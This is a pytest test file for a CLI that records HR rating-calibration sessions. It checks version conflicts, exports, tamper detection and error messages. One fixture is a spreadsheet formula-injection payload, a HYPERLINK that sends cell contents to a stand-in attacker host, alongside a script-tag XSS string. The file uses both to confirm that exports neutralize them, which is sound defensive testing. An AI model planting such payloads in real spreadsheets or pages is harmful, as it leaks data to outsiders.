"""`calib session ...` as a user meets it: real processes, exit codes, one-line errors, exported files."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from conftest import ROOT

SAMPLE = str(ROOT / "data_samples" / "cycle.yml")
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
SCRIPT = "<script>alert('x')</script>"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def calib(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "calib.cli", "session", *args], capture_output=True, text=True, cwd=ROOT, timeout=120
    )


def refused(run: subprocess.CompletedProcess, fragment: str) -> None:
    """Exit 1, one line on stderr naming the problem, no traceback."""
    assert run.returncode == 1, run.stdout + run.stderr
    assert run.stderr.count("\n") == 1 and run.stderr.startswith("error: "), run.stderr
    assert fragment in run.stderr and "Traceback" not in run.stderr


@pytest.fixture
def store(tmp_path) -> str:
    return str(tmp_path / "sessions.sqlite")


def test_a_session_end_to_end_on_the_sample_org(store, tmp_path):
    common = ["--session", "q3", "--store", store]
    first = calib("set", SAMPLE, *common, "--employee", "E0003", "--rating", "exceeds", "--reason", LINK, "--by", "Ana")
    assert first.returncode == 0, first.stderr
    assert first.stdout == "recorded 2026-H1/q3 event 2: E0003 rating Meets -> Exceeds (version 1) by Ana\n"
    stale = calib("set", SAMPLE, *common, "--employee", "E0003", "--rating", "Meets", "--reason", "no",
                  "--by", "Bo", "--expect-version", "0")
    refused(stale, "error: E0003 was changed by Ana (version 1, ")
    assert "UTC) after the version 0 you saw: reload and try again." in stale.stderr
    both = calib("set", SAMPLE, *common, "--employee", "E0003", "--rating", "Meets", "--potential", "High",
                 "--reason", SCRIPT, "--by", "Bo", "--expect-version", "1")
    assert both.returncode == 0 and both.stdout.splitlines()[1].endswith("potential medium -> high (version 3) by Bo")
    assert calib("flag", SAMPLE, *common, "--employee", "E0004", "--by", "Cy").returncode == 0
    assert calib("note", SAMPLE, *common, "--employee", "E0004", "--text", SCRIPT, "--by", "Cy").returncode == 0

    log = calib("log", SAMPLE, *common, "--format", "json")
    document = json.loads(log.stdout)
    assert [e["kind"] for e in document["events"]] == ["open", "rating", "rating", "potential", "flag", "note"]
    assert document["events"][1]["reason"] == LINK and document["events"][5]["reason"] == SCRIPT  # verbatim
    rows = list(csv.DictReader(io.StringIO(calib("log", SAMPLE, *common).stdout)))
    assert rows[1]["reason"] == "'" + LINK and rows[2]["reason"] == SCRIPT  # spreadsheet-bound: neutralized

    exported = calib("export", SAMPLE, *common, "--out", str(tmp_path / "out" / "calibrated.csv"))
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout.splitlines()[1:] == [
        "0 calibrated_rating value(s) differ from the reviews input",  # Bo set E0003 back to Meets
        "1 potential value(s) differ from the reviews input: the session changed them",
        "  E0003 medium -> high",
    ], exported.stdout
    reviews = list(csv.DictReader((tmp_path / "out" / "calibrated.csv").open(encoding="utf-8", newline="")))
    source = list(csv.DictReader((ROOT / "data_samples" / "reviews.csv").open(encoding="utf-8")))
    assert len(reviews) == len(source) and list(reviews[0]) == list(source[0])
    e3 = next(r for r in reviews if r["cycle"] == "2026-H1" and r["employee_id"] == "E0003")
    assert (e3["rating"], e3["calibrated_rating"], e3["potential"]) == ("Meets", "Meets", "high")
    older = [r for r in reviews if r["cycle"] == "2025-H2"]
    assert older == [r for r in source if r["cycle"] == "2025-H2"]  # other cycles untouched
    log_rows = list(csv.DictReader((tmp_path / "out" / "calibrated-log.csv").open(encoding="utf-8", newline="")))
    assert [r["seq"] for r in log_rows] == ["1", "2", "3", "4", "5", "6"]
    assert not any(v.startswith(FORMULA_STARTS) for r in log_rows + reviews for v in r.values())

    xlsx = tmp_path / "out" / "calibrated.xlsx"
    assert calib("export", SAMPLE, *common, "--out", str(xlsx)).returncode == 0
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames == ["reviews", "log", "head"]
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and not any(c.data_type == "f" for c in cells)
    reasons = [row[11] for row in book["log"].iter_rows(min_row=2, values_only=True)]
    assert reasons[1] == "'" + LINK and reasons[2] == SCRIPT and reasons[5] == SCRIPT

    assert calib("verify", SAMPLE, *common).stdout.startswith("session 2026-H1/q3 in ")
    locked = calib("lock", SAMPLE, *common, "--by", "Fa")
    assert locked.returncode == 0 and locked.stdout.splitlines()[0].endswith("event 7: lock by Fa")
    refused(calib("discussed", SAMPLE, *common, "--employee", "E0004", "--by", "Cy"), "was locked by Fa")


def test_the_export_keeps_every_calibrated_rating_the_session_did_not_change(store, tmp_path):
    common = ["--session", "q3", "--store", store]
    source = list(csv.DictReader((ROOT / "data_samples" / "reviews.csv").open(encoding="utf-8")))
    now = [r for r in source if r["cycle"] == "2026-H1"]
    own = {r["employee_id"]: r["calibrated_rating"] for r in now if r["calibrated_rating"] != r["rating"]}
    assert len(own) == 13 and own["E0070"] == "Exceeds" and own["E0161"] == "Far exceeds"
    for person, rating, before in (("E0070", "Meets", "Exceeds"), ("E0003", "Exceeds", "Meets")):
        run = calib("set", SAMPLE, *common, "--employee", person, "--rating", rating, "--reason", "r", "--by", "Ana")
        assert run.returncode == 0 and f"{person} rating {before} -> {rating} (version 1)" in run.stdout, run.stderr
    run = calib("undo", SAMPLE, *common, "--employee", "E0003", "--reason", "wrong person", "--by", "Ana")
    assert run.returncode == 0 and "E0003 undo_rating Exceeds -> Meets (version 2)" in run.stdout, run.stderr
    out = tmp_path / "back.csv"
    exported = calib("export", SAMPLE, *common, "--out", str(out))
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout.splitlines()[1:3] == [
        "1 calibrated_rating value(s) differ from the reviews input: the session changed them",
        "  E0070 Exceeds -> Meets",
    ]
    written = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    expected = [dict(r, calibrated_rating="Meets") if (r["cycle"], r["employee_id"]) == ("2026-H1", "E0070") else r
                for r in source]
    assert written == expected  # every other cell as read: the 12 other calibrated ratings of their own kept


def test_bad_input_is_one_line_and_exit_1(tiny_cycle, store):
    config = str(tiny_cycle())
    change = ["set", config, "--session", "s", "--store", store, "--by", "Ana"]
    refused(calib(*change, "--employee", "E3", "--rating", "Meets", "--reason", " "), "the reason is empty")
    refused(calib(*change, "--employee", "E3", "--rating", "Superb", "--reason", "r"), "not on the scale")
    refused(calib(*change, "--employee", "E99", "--rating", "Meets", "--reason", "r"), "no such employee_id")
    refused(
        calib(*change, "--employee", "E6", "--rating", "Meets", "--reason", "r", "--scope", "manager:E2"),
        "outside this session's scope (manager:E2)",
    )
    refused(calib("log", config, "--session", "s", "--store", store), "no session named 's' in 2026-H1")
    refused(calib("export", config, "--session", "s", "--store", store, "--out", "x.txt"), "no session named")
    hidden = calib("verify", config, "--session", "s", "--store", "postgresql://calib:pa55word@127.0.0.1:9/db")
    refused(hidden, "cannot be opened")
    assert "pa55word" not in hidden.stderr and "***" in hidden.stderr


def test_verify_exits_1_when_the_log_was_altered(tiny_cycle, store):
    config = str(tiny_cycle())
    common = ["--session", "s", "--store", store]
    for person, rating in (("E3", "Far exceeds"), ("E4", "Exceeds")):
        run = calib("set", config, *common, "--employee", person, "--rating", rating, "--reason", "ok", "--by", "Ana")
        assert run.returncode == 0, run.stderr
    assert calib("verify", config, *common).returncode == 0
    tamper = sqlite3.connect(store, isolation_level=None)
    tamper.executescript(
        "DROP TRIGGER session_events_no_update; UPDATE session_events SET to_value = 'Far exceeds' WHERE seq = 3;"
    )
    tamper.close()
    run = calib("verify", config, *common)
    assert run.returncode == 1 and "Traceback" not in run.stderr
    problems = run.stderr.splitlines()  # one line per problem: the edited event, then the dropped trigger
    assert all(line.startswith("error: session 2026-H1/s in ") for line in problems), run.stderr
    assert "altered: event 3 (rating of E4 by Ana" in problems[0]
    assert "trigger session_events_no_update is missing" in problems[1]


def test_export_restores_vendor_headers_and_uses_the_configs_store(tiny_cycle, tmp_path):
    reviews = (
        "Cycle,Employee ID,reviewer_id,Manager Rating,calibrated_rating\n"
        "2026-H1,E2,E1,Meets,\n2026-H1,E3,E2,Exceeds,Meets\n2026-H1,E4,E2,meets,\n"
        "2026-H1,E5,E2,Partially meets,\n2026-H1,E6,E1,Far exceeds,\n2026-H1,E7,E1,Meets,\n2025-H2,E3,E2,Meets,\n"
    )
    mapping = (
        "columns:\n  reviews: {Cycle: cycle, Employee ID: employee_id, Manager Rating: rating}\n"
        "sessions: {store: state/sessions.sqlite}\n"
    )
    config = str(tiny_cycle(files={"reviews.csv": reviews}, config=lambda text: text + mapping))
    run = calib("set", config, "--session", "s", "--employee", "E5", "--rating", "Meets", "--reason", "grew",
                "--by", "Ana")
    assert run.returncode == 0, run.stderr
    assert (tmp_path / "state" / "sessions.sqlite").is_file()
    out = tmp_path / "hr" / "upload.csv"
    assert calib("export", config, "--session", "s", "--out", str(out)).returncode == 0
    rows = list(csv.reader(out.open(encoding="utf-8", newline="")))
    assert rows[0] == ["Cycle", "Employee ID", "reviewer_id", "Manager Rating", "calibrated_rating"]
    calibrated = {row[1]: row[4] for row in rows[1:] if row[0] == "2026-H1"}
    # E3's calibrated Meets is kept (the session did not change it); blanks get the rating the session kept
    assert calibrated == {"E2": "Meets", "E3": "Meets", "E4": "Meets", "E5": "Meets", "E6": "Far exceeds",
                          "E7": "Meets"}
    assert rows[3][3] == "meets" and rows[-1] == ["2025-H2", "E3", "E2", "Meets", ""]  # read as written
    assert Path(str(out).replace(".csv", "-log.csv")).is_file()


def test_the_commands_work_against_postgresql(tiny_cycle, postgres_server):
    config, url = str(tiny_cycle()), postgres_server.create_database()
    common = ["--session", "s", "--store", url]
    run = calib("set", config, *common, "--employee", "E3", "--rating", "Far exceeds", "--reason", LINK, "--by", "Ana")
    assert run.returncode == 0, run.stderr
    refused(
        calib("set", config, *common, "--employee", "E3", "--rating", "Exceeds", "--reason", "r", "--by", "Bo",
              "--expect-version", "0"),
        "E3 was changed by Ana (version 1,",
    )
    assert json.loads(calib("log", config, *common, "--format", "json").stdout)["events"][1]["reason"] == LINK
    assert calib("verify", config, *common).returncode == 0
